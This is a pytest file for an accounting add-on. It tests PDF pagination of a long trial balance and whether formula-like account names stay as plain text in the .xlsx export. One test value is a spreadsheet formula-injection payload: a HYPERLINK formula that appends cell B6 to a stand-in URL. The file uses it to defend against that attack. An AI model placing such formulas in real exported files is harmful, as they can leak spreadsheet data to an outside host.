"""A long trial balance as PDF, on SQLite and PostgreSQL: it runs over several pages, each
repeating the column titles, and an account name too long for its column (a bank account
written without a break) wraps inside it instead of pushing the amounts off the page.  In
the .xlsx a name that looks like a formula stays text (never run by the spreadsheet)."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from accounting_support import World, build_world
from openpyxl import load_workbook
from pypdf import PdfReader

from openjxc.addons.accounting_bridge import books, statement_files
from openjxc.addons.accounting_bridge.models import AccountBalance

D = Decimal
ROWS = 40


@pytest.fixture
def world(database_url: str) -> World:
    world = build_world(database_url)

    def accounts(s: Any) -> None:
        for i in range(ROWS):
            name = "ICBC" + "8" * 100 if i % 2 else "招商银行杭州分行营业部基本存款账户" * 3
            account = books.add_sub_account(s, "1002", name)
            s.flush()
            s.add(AccountBalance(account_id=account.id, period=date(2026, 2, 1),
                                 debit=D("1234567.89"), credit=D(0)))

    world.run(accounts)
    return world


def test_a_name_like_a_formula_stays_text_in_the_spreadsheet(world: World) -> None:
    formula = '=HYPERLINK("http://example.invalid/?"&B6,"明细")'

    def named(s: Any) -> None:
        account = books.add_sub_account(s, "1001", formula)
        s.flush()
        s.add(AccountBalance(account_id=account.id, period=date(2026, 2, 1), debit=D("5"),
                             credit=D(0)))

    world.run(named)
    with world.uow(readonly=True) as s:
        content = statement_files.statement_file(s, world.env, "trial_balance",
                                                 date(2026, 3, 1), "xlsx",
                                                 locale="zh_CN").content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
    assert len(cells) == 1 and cells[0].data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_a_long_trial_balance_paginates_and_keeps_its_amounts_on_the_page(
        world: World) -> None:
    with world.uow(readonly=True) as s:
        pdf = statement_files.statement_file(s, world.env, "trial_balance", date(2026, 3, 1),
                                             "pdf", locale="zh_CN").content
    pages = PdfReader(io.BytesIO(pdf)).pages
    assert len(pages) > 1
    texts = ["".join(page.extract_text().split()) for page in pages]
    assert all("期初余额" in t and "科目名称" in t for t in texts)  # titles on every page
    assert sum(t.count("1,234,567.89") for t in texts) == 2 * ROWS  # opening and closing
    for page in pages:
        starts: list[float] = []

        def seen(text: str, cm: Any, tm: Any, font: Any, size: Any,
                 found: list[float] = starts) -> None:
            if text.strip():
                found.append(tm[4] * cm[0] + cm[4])

        page.extract_text(visitor_text=seen)
        assert max(starts) < float(page.mediabox.width) - 20  # inside the right margin
